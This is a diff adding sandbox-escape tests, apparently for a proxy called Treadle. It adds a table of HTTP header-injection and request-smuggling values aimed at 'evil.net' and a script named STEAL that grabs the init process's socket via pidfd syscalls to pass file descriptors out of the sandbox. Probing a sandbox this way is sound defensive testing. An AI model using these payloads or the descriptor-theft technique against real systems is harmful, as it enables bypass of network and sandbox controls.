@@ -168,6 +168,54 @@ async def smuggle_a_host(ground: Ground, request: str) -> str:
     return tried(await ask(ground, request, LISTED), legal=("93.184.216.34",))
 
 
+AMBIGUOUS = {
+    "behind a line feed": "X: a\\nHost: evil.net",
+    "behind a carriage return": "X: a\\rHost: evil.net",
+    "behind a null": "\\x00Host: evil.net",
+    "on a folded line": "X: a\\r\\n Host: evil.net",
+    "before a blank": "Host : evil.net",
+    "by two lengths": "Content-Length: 0\\r\\nContent-Length: 9",
+    "by a length and chunks": "Content-Length: 0\\r\\nTransfer-Encoding: chunked",
+}
+
+
+@AREA.each(AMBIGUOUS, quick="behind a line feed")
+async def name_another_host_to_a_listed_one(ground: Ground, header: str) -> str:
+    """A command asks a listed host in a head that some servers read as one for another host.
+
+    Through if Treadle connects to pass it on.
+    """
+    request = f"GET http://docs.example.org/ HTTP/1.1\\r\\n{header}\\r\\n\\r\\n"
+    return tried(await ask(ground, request, LISTED))
+
+
+STEAL = """#!python
+import array, ctypes, os, socket
+libc = ctypes.CDLL(None)
+refused = socket.create_connection(("127.0.0.1", 61080))
+refused.sendall(b"CONNECT evil.net:443 HTTP/1.1\\r\\n\\r\\n")
+refused.recv(99)
+first = libc.syscall(434, 1, 0)
+for name in os.listdir("/proc/1/fd"):
+    if os.readlink(f"/proc/1/fd/{name}").startswith("socket"):
+        stolen = socket.socket(fileno=libc.syscall(438, first, int(name), 0))
+        passed = array.array("i", [0])
+        stolen.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, passed)])
+        print("SENT")
+"""
+
+
+@AREA.attempt()
+async def send_on_the_way_of_the_proxy(ground: Ground) -> str:
+    """A command takes the socket on which the proxy got its own from the sandbox's first process.
+
+    Through if it can still send Treadle descriptors on it.
+    """
+    policy = SandboxPolicy(mode="workspace-write", exclude_slash_tmp=True, hosts=LISTED)
+    ran = await ground.run(STEAL, policy=policy, network=TableNetwork())
+    return "it sent something" if "SENT" in ran.output else ""
+
+
 DIRECT = """#!python
 import socket, sys
 socket.create_connection(("127.0.0.1", int(sys.argv[2])), 2)
